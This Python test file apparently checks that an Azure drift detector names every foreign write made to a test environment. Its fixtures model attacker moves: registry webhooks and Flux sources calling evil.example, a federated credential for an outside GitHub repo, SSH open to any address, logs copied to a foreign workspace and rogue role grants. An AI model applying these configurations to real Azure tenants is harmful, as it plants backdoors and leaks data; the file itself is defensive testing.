"""What others put on, into or onto something of an environment is drift, by name.

Each row is one write past azsec: the id that drift has to name, and who writes it. All of them are
made, and drift names these and no other.
"""

from typing import Any

from tests.environments import Bench
from tests.laws.foreign_writes import (
    ADDRESS,
    ADMINS,
    AKS,
    ASSIGNMENT,
    AUDIT,
    CONTRIBUTOR,
    CR,
    DNS,
    ENDPOINT,
    GATEWAY,
    GROUP,
    KV,
    LAW,
    LOCK,
    LOGS_TO_THEM,
    MANAGEMENT,
    NODES,
    ONE,
    PRIVATE_DNS,
    READER,
    REMOTE,
    ROLES,
    RULES,
    SETTING,
    STORE,
    STRANGER,
    SUBSCRIPTION,
    THEIRS,
    VAULT_BODY,
    VNET,
    WATCHER,
    both,
    by_deployment,
    granted,
    made,
    open_site,
    put,
    theirs,
    vnet_of_theirs,
)
from tests.laws.neighbours import (
    ACCOUNT,
    CLUSTER,
    NETWORK,
    ROLE,
    STORAGE,
    VAULT,
    ZONE,
    id_of,
)

MANAGER = theirs("Microsoft.Network/networkManagers", "central")
AMONG_NODES = f"{NODES}/providers"
ADMIN_RULES = f"{MANAGER}/securityAdminConfigurations/all/ruleCollections/in"
ADDITIONS: dict[str, tuple[str, Any]] = {
    "owner-on-group": granted(GROUP, 1),
    "owner-on-subscription": granted(SUBSCRIPTION, 2),
    "contributor-on-vault-to-group": granted(KV, 3, CONTRIBUTOR, "Group"),
    "reader-on-registry-to-service": granted(CR, 4, READER, "ServicePrincipal"),
    "reader-on-namespace-of-cluster": granted(f"{AKS}/namespaces/app", 5, READER),
    "owner-on-subnet": granted(f"{VNET}/subnets/nodes", 6),
    "owner-on-node-group": granted(NODES, 7),
    "owner-on-node-group-to-the-admins-of-the-cluster": granted(
        NODES, 15, kind="Group", principal=ADMINS
    ),
    "contributor-on-node-group-to-an-application-among-the-admins": granted(
        NODES, 16, CONTRIBUTOR, "ServicePrincipal", ADMINS
    ),
    "owner-on-identity-of-ours": granted(ONE, 8),
    "owner-on-zone": granted(DNS, 9),
    "conditioned-owner-on-storage": granted(
        STORE,
        10,
        condition="@Resource[Microsoft.Storage/storageAccounts:name] StringEquals 'x'",
        conditionVersion="2.0",
    ),
    "reader-on-management-group": granted(f"{MANAGEMENT}/contoso", 13, READER),
    "owner-on-tenant": granted("", 14),
    "exemption-of-group": (
        f"{GROUP}/providers/Microsoft.Authorization/policyExemptions/out",
        both(
            put(f"{GROUP}/providers/{ASSIGNMENT}/theirs", {"policyDefinitionId": AUDIT}),
            put(
                f"{GROUP}/providers/Microsoft.Authorization/policyExemptions/out",
                {
                    "policyAssignmentId": f"{GROUP}/providers/{ASSIGNMENT}/theirs",
                    "exemptionCategory": "Waiver",
                },
            ),
        ),
    ),
    "scope-map-of-registry": made(
        f"{CR}/scopeMaps/everything", {"actions": ["repositories/*/content/write"]}
    ),
    "token-of-registry": made(
        f"{CR}/tokens/evil1", {"scopeMapId": f"{CR}/scopeMaps/everything", "status": "enabled"}
    ),
    "webhook-of-registry": made(
        f"{CR}/webhooks/evil1",
        {"actions": ["push"], "status": "enabled", "serviceUri": "https://evil.example/"},
        location="westeurope",
    ),
    "replication-of-registry": made(f"{CR}/replications/northeurope", {}, location="northeurope"),
    "extension-of-cluster": made(
        f"{AKS}/providers/Microsoft.KubernetesConfiguration/extensions/evil",
        {"extensionType": "microsoft.flux"},
    ),
    "flux-of-cluster": made(
        f"{AKS}/providers/Microsoft.KubernetesConfiguration/fluxConfigurations/evil",
        {
            "scope": "cluster",
            "namespace": "flux-system",
            "sourceKind": "GitRepository",
            "gitRepository": {"url": "https://evil.example/x", "repositoryRef": {"branch": "main"}},
        },
    ),
    "alias-in-zone": made(
        f"{DNS}/CNAME/www", {"ttl": 60, "cnameRecord": {"cname": "evil.example"}}
    ),
    "lock-on-subscription": made(f"{SUBSCRIPTION}/providers/{LOCK}/all", {"level": "CanNotDelete"}),
    "lock-on-identity": made(f"{ONE}/providers/{LOCK}/one", {"level": "CanNotDelete"}),
    "policy-on-group": made(
        f"{GROUP}/providers/{ASSIGNMENT}/theirs",
        {"policyDefinitionId": AUDIT},
    ),
    "setting-on-vault": (
        f"{KV}/providers/{SETTING}/copy",
        both(put(LAW), put(f"{KV}/providers/{SETTING}/copy", LOGS_TO_THEM)),
    ),
    "setting-on-cluster-without-one": (
        f"{AKS}/providers/{SETTING}/copy",
        both(
            put(LAW),
            put(
                f"{AKS}/providers/{SETTING}/copy",
                {"workspaceId": LAW, "logs": [{"category": "kube-audit", "enabled": True}]},
            ),
        ),
    ),
    "setting-on-subscription": (
        f"{SUBSCRIPTION}/providers/{SETTING}/copy",
        both(
            put(LAW),
            put(
                f"{SUBSCRIPTION}/providers/{SETTING}/copy",
                {"workspaceId": LAW, "logs": [{"category": "Administrative", "enabled": True}]},
            ),
        ),
    ),
    "credential-of-identity": made(
        f"{ONE}/federatedIdentityCredentials/evil",
        {
            "issuer": "https://token.actions.githubusercontent.com",
            "subject": "repo:evil/x:ref:refs/heads/main",
            "audiences": ["api://AzureADTokenExchange"],
        },
    ),
    "subnet": made(f"{VNET}/subnets/rogue", {"addressPrefix": "10.8.9.0/24"}),
    "peering": (
        f"{VNET}/virtualNetworkPeerings/rogue",
        both(
            vnet_of_theirs("vnet-far"),
            put(
                f"{VNET}/virtualNetworkPeerings/rogue",
                {"remoteVirtualNetwork": {"id": REMOTE}, "allowVirtualNetworkAccess": True},
            ),
        ),
    ),
    "peering-from-the-other-side": (
        f"{theirs(NETWORK, 'vnet-near')}/virtualNetworkPeerings/to-ours",
        both(
            vnet_of_theirs("vnet-near"),
            put(
                f"{theirs(NETWORK, 'vnet-near')}/virtualNetworkPeerings/to-ours",
                {"remoteVirtualNetwork": {"id": VNET}},
            ),
        ),
    ),
    "link-of-our-zone-to-their-network": (
        f"{DNS}/virtualNetworkLinks/theirs",
        both(
            vnet_of_theirs("vnet-far"),
            put(
                f"{DNS}/virtualNetworkLinks/theirs",
                {"registrationEnabled": False, "virtualNetwork": {"id": REMOTE}},
            ),
        ),
    ),
    "link-of-their-zone-to-our-network": (
        f"{theirs(ZONE, 'vault.azure.net')}/virtualNetworkLinks/ours",
        both(
            put(theirs(ZONE, "vault.azure.net")),
            put(
                f"{theirs(ZONE, 'vault.azure.net')}/virtualNetworkLinks/ours",
                {"registrationEnabled": False, "virtualNetwork": {"id": VNET}},
            ),
        ),
    ),
    "link-of-a-zone-among-the-nodes-to-our-network": (
        f"{AMONG_NODES}/{ZONE}/database.windows.net/virtualNetworkLinks/ours",
        both(
            put(f"{AMONG_NODES}/{ZONE}/database.windows.net"),
            put(
                f"{AMONG_NODES}/{ZONE}/database.windows.net/virtualNetworkLinks/ours",
                {"registrationEnabled": False, "virtualNetwork": {"id": VNET}},
            ),
        ),
    ),
    "peering-of-a-network-among-the-nodes-with-ours": (
        f"{AMONG_NODES}/{NETWORK}/evil/virtualNetworkPeerings/ours",
        both(
            put(
                f"{AMONG_NODES}/{NETWORK}/evil",
                {"addressSpace": {"addressPrefixes": ["172.20.0.0/16"]}},
            ),
            put(
                f"{AMONG_NODES}/{NETWORK}/evil/virtualNetworkPeerings/ours",
                {"remoteVirtualNetwork": {"id": VNET}},
            ),
        ),
    ),
    "rule-of-network-manager": (
        f"{ADMIN_RULES}/rules/ssh",
        both(
            put(
                MANAGER,
                {
                    "networkManagerScopes": {"subscriptions": [SUBSCRIPTION]},
                    "networkManagerScopeAccesses": ["SecurityAdmin"],
                },
            ),
            put(f"{MANAGER}/securityAdminConfigurations/all"),
            put(
                ADMIN_RULES,
                {"appliesToGroups": [{"networkGroupId": f"{MANAGER}/networkGroups/all"}]},
            ),
            put(
                f"{ADMIN_RULES}/rules/ssh",
                {
                    "access": "AlwaysAllow",
                    "direction": "Inbound",
                    "priority": 100,
                    "protocol": "Tcp",
                    "sources": [{"addressPrefixType": "IPPrefix", "addressPrefix": "*"}],
                    "destinations": [{"addressPrefixType": "IPPrefix", "addressPrefix": "*"}],
                    "sourcePortRanges": ["0-65535"],
                    "destinationPortRanges": ["22"],
                },
                kind="Custom",
            ),
        ),
    ),
    "connection-of-our-gateway": (
        id_of("Microsoft.Network/connections", "cn-theirs"),
        both(
            put(
                theirs("Microsoft.Network/localNetworkGateways", "lgw-theirs"),
                {
                    "gatewayIpAddress": "203.0.113.10",
                    "localNetworkAddressSpace": {"addressPrefixes": ["192.168.0.0/16"]},
                },
            ),
            put(
                id_of("Microsoft.Network/connections", "cn-theirs"),
                {
                    "connectionType": "IPsec",
                    "virtualNetworkGateway1": {"id": id_of(GATEWAY, "vgw")},
                    "localNetworkGateway2": {
                        "id": theirs("Microsoft.Network/localNetworkGateways", "lgw-theirs")
                    },
                },
            ),
        ),
    ),
    "record": made(f"{DNS}/A/api", {"ttl": 60, "aRecords": [{"ipv4Address": "203.0.113.66"}]}),
    "record-with-the-signature-of-an-endpoint": made(
        f"{DNS}/A/login",
        {
            "ttl": 10,
            "metadata": {
                "creator": "created by private endpoint pe-ours with resource guid "
                "77777777-2222-3333-4444-555555555555"
            },
            "aRecords": [{"ipv4Address": "203.0.113.66"}],
        },
    ),
    "record-that-was-an-endpoint-s": (
        f"{PRIVATE_DNS}/A/kv-ours0",
        put(
            f"{PRIVATE_DNS}/A/kv-ours0",
            {
                "ttl": 10,
                "metadata": {"creator": "created by private endpoint pe-ours"},
                "aRecords": [{"ipv4Address": "203.0.113.66"}],
            },
        ),
    ),
    "rule-collections": made(
        f"{RULES}/ruleCollectionGroups/rogue", {"priority": 150, "ruleCollections": []}
    ),
    "pool": made(
        f"{AKS}/agentPools/rogue",
        {"mode": "User", "count": 1, "vmSize": "Standard_D4ds_v5", "enableNodePublicIP": True},
    ),
    "maintenance-window": made(
        f"{AKS}/maintenanceConfigurations/default",
        {"timeInWeek": [{"day": "Monday", "hourSlots": [1]}]},
    ),
    "trusted-access": (
        f"{AKS}/trustedAccessRoleBindings/evil",
        put(
            f"{AKS}/trustedAccessRoleBindings/evil",
            {
                "sourceResourceId": ONE,
                "roles": ["Microsoft.MachineLearningServices/workspaces/mlworkload"],
            },
        ),
    ),
    "namespace": made(
        f"{AKS}/managedNamespaces/rogue",
        {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}},
        location="westeurope",
    ),
    "key": made(f"{KV}/keys/rogue", {"kty": "RSA"}),
    "blob-container": made(
        f"{STORE}/blobServices/default/containers/theirs", {"publicAccess": "None"}
    ),
    "cache-rule": made(
        f"{CR}/cacheRules/rogue",
        {"sourceRepository": "docker.io/evil/*", "targetRepository": "library/*"},
    ),
    "endpoint-onto-vault": (
        theirs(ENDPOINT, "pe-theirs"),
        both(
            vnet_of_theirs("vnet-ends", "ends"),
            put(
                theirs(ENDPOINT, "pe-theirs"),
                {
                    "subnet": {"id": f"{theirs(NETWORK, 'vnet-ends')}/subnets/ends"},
                    "privateLinkServiceConnections": [
                        {
                            "name": "v",
                            "properties": {"privateLinkServiceId": KV, "groupIds": ["vault"]},
                        }
                    ],
                },
            ),
        ),
    ),
    "endpoint-in-our-subnet": (
        theirs(ENDPOINT, "pe-inside"),
        both(
            put(theirs(VAULT, "kv-theirs0"), VAULT_BODY),
            put(
                theirs(ENDPOINT, "pe-inside"),
                {
                    "subnet": {"id": f"{VNET}/subnets/free"},
                    "privateLinkServiceConnections": [
                        {
                            "name": "v",
                            "properties": {
                                "privateLinkServiceId": theirs(VAULT, "kv-theirs0"),
                                "groupIds": ["vault"],
                            },
                        }
                    ],
                },
            ),
        ),
    ),
    "cluster-in-our-subnet": (
        theirs(CLUSTER, "aks-theirs"),
        put(
            theirs(CLUSTER, "aks-theirs"),
            {
                "dnsPrefix": "theirs",
                "agentPoolProfiles": [
                    {
                        "name": "system",
                        "mode": "System",
                        "count": 1,
                        "vmSize": "Standard_D4ds_v5",
                        "vnetSubnetID": f"{VNET}/subnets/free",
                    }
                ],
            },
            identity={"type": "SystemAssigned"},
        ),
    ),
    "interface-in-our-subnet": made(
        theirs("Microsoft.Network/networkInterfaces", "nic-theirs"),
        {
            "ipConfigurations": [
                {"name": "i", "properties": {"subnet": {"id": f"{VNET}/subnets/free"}}}
            ]
        },
        location="westeurope",
    ),
    "scale-set-in-our-subnet": made(
        theirs("Microsoft.Compute/virtualMachineScaleSets", "vmss-theirs"),
        {
            "virtualMachineProfile": {
                "networkProfile": {
                    "networkInterfaceConfigurations": [
                        {
                            "name": "nic",
                            "properties": {
                                "ipConfigurations": [
                                    {
                                        "name": "ip",
                                        "properties": {"subnet": {"id": f"{VNET}/subnets/free"}},
                                    }
                                ]
                            },
                        }
                    ]
                }
            }
        },
        sku={"name": "Standard_D2ds_v5", "capacity": 1},
        location="westeurope",
    ),
    "balancer-to-our-network": (
        id_of("Microsoft.Network/loadBalancers", "lb-theirs"),
        both(
            vnet_of_theirs("vnet-balanced", "balanced"),
            put(
                id_of("Microsoft.Network/loadBalancers", "lb-theirs"),
                {
                    "frontendIPConfigurations": [
                        {
                            "name": "in",
                            "properties": {
                                "subnet": {
                                    "id": f"{theirs(NETWORK, 'vnet-balanced')}/subnets/balanced"
                                }
                            },
                        }
                    ],
                    "backendAddressPools": [
                        {
                            "name": "ours",
                            "properties": {
                                "loadBalancerBackendAddresses": [
                                    {
                                        "name": "one",
                                        "properties": {
                                            "virtualNetwork": {"id": VNET},
                                            "ipAddress": "10.8.1.9",
                                        },
                                    }
                                ]
                            },
                        }
                    ],
                },
                sku={"name": "Standard"},
            ),
        ),
    ),
    "bastion-in-our-subnet": (
        theirs("Microsoft.Network/bastionHosts", "bas-theirs"),
        both(
            put(
                theirs(ADDRESS, "pip-bas"),
                {"publicIPAllocationMethod": "Static"},
                sku={"name": "Standard"},
            ),
            put(
                theirs("Microsoft.Network/bastionHosts", "bas-theirs"),
                {
                    "ipConfigurations": [
                        {
                            "name": "ip",
                            "properties": {
                                "subnet": {"id": f"{VNET}/subnets/AzureBastionSubnet"},
                                "publicIPAddress": {"id": theirs(ADDRESS, "pip-bas")},
                            },
                        }
                    ]
                },
            ),
        ),
    ),
    "data-collection-of-cluster": (
        f"{AKS}/providers/Microsoft.Insights/dataCollectionRuleAssociations/copy",
        both(
            put(theirs("Microsoft.Insights/dataCollectionEndpoints", "dce-theirs")),
            put(
                f"{AKS}/providers/Microsoft.Insights/dataCollectionRuleAssociations/copy",
                {
                    "dataCollectionEndpointId": theirs(
                        "Microsoft.Insights/dataCollectionEndpoints", "dce-theirs"
                    )
                },
            ),
        ),
    ),
    "flow-log-of-our-network": (
        f"{id_of(WATCHER, 'watch')}/flowLogs/copy",
        both(
            put(id_of(WATCHER, "watch")),
            lambda site: site.others.write(theirs(ACCOUNT, "storetheirs"), STORAGE),
            put(
                f"{id_of(WATCHER, 'watch')}/flowLogs/copy",
                {
                    "targetResourceId": VNET,
                    "storageId": theirs(ACCOUNT, "storetheirs"),
                    "enabled": True,
                },
                location="westeurope",
            ),
        ),
    ),
    "access-of-our-identity-elsewhere": (
        f"{THEIRS}/providers/{ROLE}/00000011-0000-0000-0000-000000000000",
        lambda site: granted(
            THEIRS,
            11,
            principal=site.body(ONE)["properties"]["principalId"],
            kind="ServicePrincipal",
        )[1](site),
    ),
    "assignment-by-deployment": (
        f"{GROUP}/providers/{ROLE}/00000012-0000-0000-0000-000000000000",
        by_deployment(
            f"{GROUP}/providers/Microsoft.Resources/deployments/evil",
            {
                "type": ROLE,
                "apiVersion": "2022-04-01",
                "name": "00000012-0000-0000-0000-000000000000",
                "properties": {
                    "roleDefinitionId": f"{ROLES}/{CONTRIBUTOR}",
                    "principalId": STRANGER,
                    "principalType": "User",
                },
            },
        ),
    ),
    "container-by-deployment": (
        f"{STORE}/blobServices/default/containers/leak",
        by_deployment(
            f"{GROUP}/providers/Microsoft.Resources/deployments/leak",
            {
                "type": f"{ACCOUNT}/blobServices/containers",
                "apiVersion": "2025-06-01",
                "name": "storeours/default/leak",
                "properties": {},
            },
        ),
    ),
}


def test_every_addition_is_named_and_nothing_else(bench: Bench) -> None:
    site = open_site(bench)
    for _, write in ADDITIONS.values():
        write(site)

    document = site.drift()

    found = {addition.id.lower() for addition in document.additions}
    wanted = {text.lower(): name for name, (text, _) in ADDITIONS.items()}
    assert [name for text, name in wanted.items() if text not in found] == []
    assert sorted(found - wanted.keys()) == []
    assert document.found
